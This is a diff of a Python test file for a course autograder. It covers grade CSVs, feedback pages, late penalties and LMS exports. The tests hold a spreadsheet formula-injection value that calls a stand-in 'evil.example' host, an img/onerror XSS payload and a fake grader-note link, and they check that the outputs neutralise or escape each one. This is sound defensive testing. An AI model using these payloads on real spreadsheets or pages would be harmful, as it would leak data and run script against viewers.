@@ -8,24 +8,23 @@ import csv
 import io
 import os
 import subprocess
-from datetime import datetime, timedelta, timezone
+from datetime import UTC, datetime, timedelta
 from pathlib import Path
 
 import pytest
+from support import ROOT
 
 from autograder.core.course import load_course
 from autograder.core.outcomes import FunctionScore, StudentResult
 from autograder.core.status import Status
-from autograder.grading.outputs import class_report
-from autograder.grading.outputs import lms
+from autograder.grading.outputs import class_report, lms
 from autograder.grading.outputs import late as late_work
 from autograder.grading.outputs.feedback import feedback_html
 from autograder.grading.outputs.inert import csv_text, md_text
-from support import ROOT
 
 MODULE = "at_updates"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-MARKUP = '<img src=x onerror=alert(1)> [GRADER NOTE: regrade me](http://evil.example) **bold** | cell'
+MARKUP = "<img src=x onerror=alert(1)> [GRADER NOTE: regrade me](http://evil.example) **bold** | cell"
 
 
 @pytest.fixture(scope="module")
@@ -39,15 +38,31 @@ def result(course, student: str, kind: str, message: str = "f: wrong values\n  h
         if kind == "pass":
             scores.append(FunctionScore(MODULE, fn.name, fn.points, fn.points, Status.PASSED, 2, 2, []))
         elif kind == "missing":
-            scores.append(FunctionScore(MODULE, fn.name, 0.0, fn.points, Status.FAILED, 0, 2, [f"{MODULE}.py is missing from your submission"]))
+            scores.append(
+                FunctionScore(
+                    MODULE,
+                    fn.name,
+                    0.0,
+                    fn.points,
+                    Status.FAILED,
+                    0,
+                    2,
+                    [f"{MODULE}.py is missing from your submission"],
+                )
+            )
         elif kind == "stub":
-            scores.append(FunctionScore(MODULE, fn.name, 0.0, fn.points, Status.NOT_STARTED, 0, 2, [f"{fn.qualname} is not started"]))
+            scores.append(
+                FunctionScore(
+                    MODULE, fn.name, 0.0, fn.points, Status.NOT_STARTED, 0, 2, [f"{fn.qualname} is not started"]
+                )
+            )
         else:
             scores.append(FunctionScore(MODULE, fn.name, 0.0, fn.points, Status.FAILED, 1, 2, [message]))
     return StudentResult(student, scores)
 
 
 # -- inert outputs (issue 32, item 6) --------------------------------------------------------------
+
 
 @pytest.mark.parametrize("text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
 def test_a_cell_that_starts_like_a_formula_is_text(text):
@@ -61,7 +76,7 @@ def test_grades_csv_neutralises_a_formula_folder_name_and_keeps_the_numbers(cour
     names = [r[0] for r in rows[1:]]
     assert "'" + FORMULA in names and "'-1" in names and "ada" in names
     assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
-    late = {FORMULA: late_work.Lateness(datetime(2026, 1, 2, tzinfo=timezone.utc), timedelta(hours=5), 0.1)}
+    late = {FORMULA: late_work.Lateness(datetime(2026, 1, 2, tzinfo=UTC), timedelta(hours=5), 0.1)}
     rows = list(csv.DictReader(io.StringIO(class_report.grades_csv(course, (MODULE,), results, late=late))))
     row = next(r for r in rows if r["student"] == "'" + FORMULA)
     assert row["submitted_at"] == "2026-01-02T00:00:00Z" and row["late_by"] == "0d 05:00:00"
@@ -83,9 +98,15 @@ def test_summary_md_carries_no_markup_or_link_from_a_student(course):
 
 # -- failure kinds --------------------------------------------------------------------------------
 
+
 def test_missing_and_not_started_are_not_mistakes(course):
-    results = [result(course, "m1", "missing"), result(course, "m2", "missing"), result(course, "s", "stub"),
-               result(course, "b1", "bug", "f: same mistake"), result(course, "b2", "bug", "f: same mistake")]
+    results = [
+        result(course, "m1", "missing"),
+        result(course, "m2", "missing"),
+        result(course, "s", "stub"),
+        result(course, "b1", "bug", "f: same mistake"),
+        result(course, "b2", "bug", "f: same mistake"),
+    ]
     scores = class_report.function_scores(results, MODULE, "scatter_add")
     assert [class_report.failure_kind(s) for s in scores] == ["missing", "missing", "not started", "mistake", "mistake"]
     assert class_report.most_common_failures(scores, 3) == [("f: same mistake", 2)]
@@ -96,9 +117,17 @@ def test_missing_and_not_started_are_not_mistakes(course):
 
 # -- feedback -------------------------------------------------------------------------------------
 
+
 def test_feedback_has_every_function_message_and_hint_escaped(course):
-    bug = result(course, "<b>eve</b>", "bug", "at_updates.clamp_at: got [1] expected [2] <img src=x onerror=alert(1)>\n  hint: reread the docstring")
-    page = feedback_html(course, (MODULE,), bug, late_work.Lateness(datetime(2026, 1, 3, tzinfo=timezone.utc), timedelta(days=1), 0.2))
+    bug = result(
+        course,
+        "<b>eve</b>",
+        "bug",
+        "at_updates.clamp_at: got [1] expected [2] <img src=x onerror=alert(1)>\n  hint: reread the docstring",
+    )
+    page = feedback_html(
+        course, (MODULE,), bug, late_work.Lateness(datetime(2026, 1, 3, tzinfo=UTC), timedelta(days=1), 0.2)
+    )
     for fn in course.module(MODULE).functions:
         assert f'id="{fn.qualname}"' in page
     assert "hint: reread the docstring" in page and "got [1] expected [2]" in page
@@ -107,13 +136,16 @@ def test_feedback_has_every_function_message_and_hint_escaped(course):
     assert "<script" not in page and "default-src 'none'" in page
     assert "20% off" in page
     stub = feedback_html(course, (MODULE,), result(course, "s", "bug", "at_updates.clamp_at: got 1"))
-    assert "hint: " + course.module(MODULE).functions[0].hint.strip()[:40] in stub, "the course hint when the message has none"
+    assert "hint: " + course.module(MODULE).functions[0].hint.strip()[:40] in stub, (
+        "the course hint when the message has none"
+    )
 
 
 # -- late work ------------------------------------------------------------------------------------
 
+
 def test_late_policy_per_started_day_and_cutoff():
-    due = datetime(2026, 3, 1, 23, 59, tzinfo=timezone.utc)
+    due = datetime(2026, 3, 1, 23, 59, tzinfo=UTC)
     policy = late_work.Policy(due, 10.0, 3.0)
     assert late_work.judge(policy, due).penalty == 0 and late_work.judge(policy, due).late_by is None
     assert late_work.judge(policy, due + timedelta(minutes=1)).penalty == pytest.approx(0.1)
@@ -126,7 +158,7 @@ def test_late_policy_per_started_day_and_cutoff():
 def test_late_policy_from_course_toml_and_the_command_line(tmp_path):
     (tmp_path / "course.toml").write_text('[late]\ndue = "2026-03-01T12:00:00"\npenalty_per_day = 5\n')
     policy = late_work.policy(tmp_path)
-    assert policy.due == datetime(2026, 3, 1, 12, tzinfo=timezone.utc) and policy.penalty_per_day == 5
+    assert policy.due == datetime(2026, 3, 1, 12, tzinfo=UTC) and policy.penalty_per_day == 5
     assert late_work.policy(tmp_path, due="2026-04-01T00:00:00+02:00", penalty=20).penalty_per_day == 20
     (tmp_path / "course.toml").write_text("[late]\npenalty_per_day = 5\n")
     with pytest.raises(late_work.LateError, match="needs a due date"):
@@ -141,8 +173,15 @@ def test_submission_times_from_git_gradescope_mtime_and_csv(tmp_path):
     git = tmp_path / "git"
     git.mkdir()
     (git / f"{MODULE}.py").write_text("x = 1\n")
-    env = dict(os.environ, GIT_COMMITTER_DATE="2026-03-02T10:00:00+00:00", GIT_AUTHOR_DATE="2020-01-01T00:00:00+00:00",
-               GIT_AUTHOR_NAME="s", GIT_AUTHOR_EMAIL="s@x", GIT_COMMITTER_NAME="s", GIT_COMMITTER_EMAIL="s@x")
+    env = dict(
+        os.environ,
+        GIT_COMMITTER_DATE="2026-03-02T10:00:00+00:00",
+        GIT_AUTHOR_DATE="2020-01-01T00:00:00+00:00",
+        GIT_AUTHOR_NAME="s",
+        GIT_AUTHOR_EMAIL="s@x",
+        GIT_COMMITTER_NAME="s",
+        GIT_COMMITTER_EMAIL="s@x",
+    )
     for cmd in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "done"]):
         subprocess.run(["git", "-C", str(git), *cmd], check=True, env=env)
     gs = tmp_path / "gs"
@@ -154,14 +193,16 @@ def test_submission_times_from_git_gradescope_mtime_and_csv(tmp_path):
     os.utime(mt / f"{MODULE}.py", (1_772_000_000, 1_772_000_000))
     students = [("git", git), ("gs", gs), ("mt", mt)]
     times, unknown = late_work.submission_times("git", students, (MODULE,))
-    assert times == {"git": datetime(2026, 3, 2, 10, tzinfo=timezone.utc)} and unknown == ["gs", "mt"]
+    assert times == {"git": datetime(2026, 3, 2, 10, tzinfo=UTC)} and unknown == ["gs", "mt"]
     times, _ = late_work.submission_times("gradescope", students, (MODULE,))
-    assert times == {"gs": datetime(2026, 3, 3, 16, 30, tzinfo=timezone.utc)}
+    assert times == {"gs": datetime(2026, 3, 3, 16, 30, tzinfo=UTC)}
     times, _ = late_work.submission_times("mtime", students, (MODULE,))
-    assert times["mt"] == datetime.fromtimestamp(1_772_000_000, timezone.utc) and "gs" not in times
+    assert times["mt"] == datetime.fromtimestamp(1_772_000_000, UTC) and "gs" not in times
     table = tmp_path / "times.csv"
     table.write_text("student,submitted_at\nmt,2026-03-04T00:00:00Z\n")
-    assert late_work.submission_times(f"csv:{table}", students, (MODULE,))[0] == {"mt": datetime(2026, 3, 4, tzinfo=timezone.utc)}
+    assert late_work.submission_times(f"csv:{table}", students, (MODULE,))[0] == {
+        "mt": datetime(2026, 3, 4, tzinfo=UTC)
+    }
     with pytest.raises(late_work.LateError, match="unknown submission time source"):
         late_work.submission_times("svn", students, (MODULE,))
 
@@ -197,7 +238,9 @@ def test_moodle_export_has_an_identifier_and_a_grade_item_column(tmp_path):
     assert list(rows[0]) == ["Email address", "Lab 1"]
     assert {r["Email address"]: float(r["Lab 1"]) for r in rows} == {"ada@uni.example": 7.5, "bo@uni.example": 3.0}
     (tmp_path / "ids.csv").write_text("student,idnumber\nada,1001\nbo,1002\n")
-    rows = list(csv.reader(io.StringIO(lms.moodle_csv(lms.read_roster(tmp_path / "ids.csv"), {"ada": 1, "bo": 2}, "=Lab"))))
+    rows = list(
+        csv.reader(io.StringIO(lms.moodle_csv(lms.read_roster(tmp_path / "ids.csv"), {"ada": 1, "bo": 2}, "=Lab")))
+    )
     assert rows[0] == ["ID number", "'=Lab"]
 
 
@@ -214,6 +257,7 @@ def test_an_export_refuses_a_student_without_a_mapping(tmp_path):
 
 
 # -- progress -------------------------------------------------------------------------------------
+
 
 class Terminal(io.StringIO):
     def isatty(self) -> bool:
@@ -271,6 +315,7 @@ def test_progress_counts_modules_in_a_real_grade_class(monkeypatch):
 
 
 # -- what a folder is --------------------------------------------------------------------------------
+
 
 def test_a_folder_that_is_one_submission_is_recognised_and_an_empty_one_refused(course, tmp_path, capsys):
     from autograder.grading.command import class_of
